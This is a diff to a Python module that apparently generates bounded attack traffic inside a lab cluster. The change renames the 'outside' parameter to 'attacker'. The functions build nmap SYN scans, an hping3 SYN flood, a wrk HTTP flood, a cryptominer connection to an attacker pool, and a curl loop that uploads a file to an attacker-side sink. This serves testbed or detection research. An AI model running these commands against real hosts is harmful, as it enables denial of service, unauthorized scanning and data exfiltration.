@@ -1,7 +1,7 @@
 """The kinds of attack: what each is, with which tool it is made, how strong and how long, and what it moves.
 
-In: a `Node`, its `Outside` and a strength in the kind's unit. Out: commands, each to be run in its place, all of which
-end by themselves after the episode's seconds. Every address is one of the cluster's own; every rate has a bound: the
+In: a `Node`, the attacker's machine and a strength in the kind's unit. Out: commands, each for its place, that end by
+themselves after the episode's seconds. Every address is one of the cluster's own; every rate has a bound: the
 strongest here, and the CPU quota of where the command runs.
 """
 
@@ -49,34 +49,34 @@ def _cpu_stress(node: Node, _: Outside, share: float, seconds: int) -> Sequence[
     return [node.argv(*bounded(seconds, "stress-ng", "--quiet", "--cpu", "1", "--cpu-load", load))]
 
 
-def _cryptojacking(node: Node, outside: Outside, share: float, seconds: int) -> Sequence[Command]:
-    worker = [sys.executable, "-IS", miner.__file__, outside.address, str(POOL_PORT), str(share * QUOTA_CPUS)]
+def _cryptojacking(node: Node, attacker: Outside, share: float, seconds: int) -> Sequence[Command]:
+    worker = [sys.executable, "-IS", miner.__file__, attacker.address, str(POOL_PORT), str(share * QUOTA_CPUS)]
     return [node.argv(*bounded(seconds, *worker, str(seconds)))]
 
 
-def _port_scan(node: Node, outside: Outside, per_second: float, seconds: int) -> Sequence[Command]:
+def _port_scan(node: Node, attacker: Outside, per_second: float, seconds: int) -> Sequence[Command]:
     rate = str(round(per_second))
     scan = ["nmap", "-sS", "-n", "-Pn", "-p1-65535", "--max-retries=0", f"--min-rate={rate}", f"--max-rate={rate}"]
-    return [outside.argv(*bounded(seconds, *scan, node.address))]
+    return [attacker.argv(*bounded(seconds, *scan, node.address))]
 
 
-def _network_dos(node: Node, outside: Outside, per_second: float, seconds: int) -> Sequence[Command]:
+def _network_dos(node: Node, attacker: Outside, per_second: float, seconds: int) -> Sequence[Command]:
     # hping3 waits this long between two packets.
     interval_us = round(1_000_000 / per_second)
     syn = ["hping3", "--syn", f"--destport={WEB_PORT}", f"--interval=u{interval_us}", "--data=200", "--quiet"]
-    return [outside.argv(*bounded(seconds, *syn, node.address))]
+    return [attacker.argv(*bounded(seconds, *syn, node.address))]
 
 
-def _application_dos(node: Node, outside: Outside, connections: float, seconds: int) -> Sequence[Command]:
+def _application_dos(node: Node, attacker: Outside, connections: float, seconds: int) -> Sequence[Command]:
     wrk = ["wrk", "-t1", f"-c{connections:.0f}", f"-d{seconds}s", f"http://{node.address}:{WEB_PORT}/page0"]
-    return [outside.argv(*bounded(seconds, *wrk))]
+    return [attacker.argv(*bounded(seconds, *wrk))]
 
 
-def _mixed_dos(node: Node, outside: Outside, part: float, seconds: int) -> Sequence[Command]:
+def _mixed_dos(node: Node, attacker: Outside, part: float, seconds: int) -> Sequence[Command]:
     network, application = max(NETWORK_DOS.strengths), max(APPLICATION_DOS.strengths)
     return [
-        *_network_dos(node, outside, part * network, seconds),
-        *_application_dos(node, outside, max(1, part * application), seconds),
+        *_network_dos(node, attacker, part * network, seconds),
+        *_application_dos(node, attacker, max(1, part * application), seconds),
     ]
 
 
@@ -85,8 +85,8 @@ def _crash_loop(node: Node, _: Outside, per_second: float, seconds: int) -> Sequ
     return [node.argv(*bounded(seconds, "sh", "-c", loop, f"{1 / per_second:.3f}"))]
 
 
-def _exfiltration(node: Node, outside: Outside, megabytes_per_second: float, seconds: int) -> Sequence[Command]:
-    url = f"http://{outside.address}:{SINK_PORT}/"
+def _exfiltration(node: Node, attacker: Outside, megabytes_per_second: float, seconds: int) -> Sequence[Command]:
+    url = f"http://{attacker.address}:{SINK_PORT}/"
     loop = 'while :; do curl -s -o /dev/null --limit-rate "$0" -T "$1" "$2" || sleep 1; done'
     limit = str(round(megabytes_per_second * 1e6))
     return [node.argv(*bounded(seconds, "sh", "-c", loop, limit, UPLOAD_FILE, url))]
